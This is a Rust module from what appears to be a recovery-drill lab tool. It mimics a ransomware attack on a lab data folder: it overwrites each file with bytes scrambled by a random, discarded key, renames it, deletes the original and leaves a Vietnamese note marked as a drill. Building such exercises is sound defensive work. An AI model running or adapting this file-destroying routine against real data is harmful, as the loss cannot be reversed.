//! `encrypt`: what ransomware leaves. Every data file is replaced by unreadable bytes under another name, with a note.

use std::fs;
use std::path::Path;

use super::super::LabError;
use super::super::data;
use super::super::ward::Ward;

/// What the made-up ransomware adds to names.
const EXTENSION: &str = "khoa-dien-tap";
const NOTE: &str = "DOC-TEP-NAY.txt";
const WORDS: &str = "DIỄN TẬP - KHÔNG PHẢI SỰ CỐ THẬT\n\n\
Dữ liệu của hệ thống đã bị mã hóa. Để lấy lại dữ liệu, liên hệ: khong-co-that@dien-tap.invalid\n\
(Nội dung giả định phục vụ diễn tập; khóa đã bị bỏ đi ngay khi mã hóa.)\n";

/// Whether a file that it left is still there.
pub(super) fn is_there(data: &Path) -> bool {
    let files = data::files(data).unwrap_or_default();
    files.iter().any(|file| file.extension().is_some_and(|extension| extension == EXTENSION))
}

pub(super) fn make(ward: &Ward) -> Result<String, LabError> {
    let data = ward.home()?.data();
    let mut count = 0_u32;
    for file in data::files(&data)? {
        if file.extension().is_some_and(|extension| extension == EXTENSION) || file.ends_with(NOTE) {
            continue;
        }
        let mut bytes = fs::read(&file).map_err(LabError::file(&file))?;
        // A key as long as the file that nobody keeps: nothing brings it back but a copy.
        let mut key = vec![0_u8; bytes.len()];
        getrandom::fill(&mut key)
            .map_err(|error| LabError::File { path: file.clone(), source: std::io::Error::other(error) })?;
        for (byte, with) in bytes.iter_mut().zip(key) {
            *byte ^= with;
        }
        let mut name = file.clone().into_os_string();
        name.push(".");
        name.push(EXTENSION);
        fs::write(&name, bytes).map_err(LabError::file(name.as_ref()))?;
        fs::remove_file(&file).map_err(LabError::file(&file))?;
        count += 1;
    }
    let note = data.join(NOTE);
    fs::write(&note, WORDS).map_err(LabError::file(&note))?;
    Ok(format!("files={count}"))
}
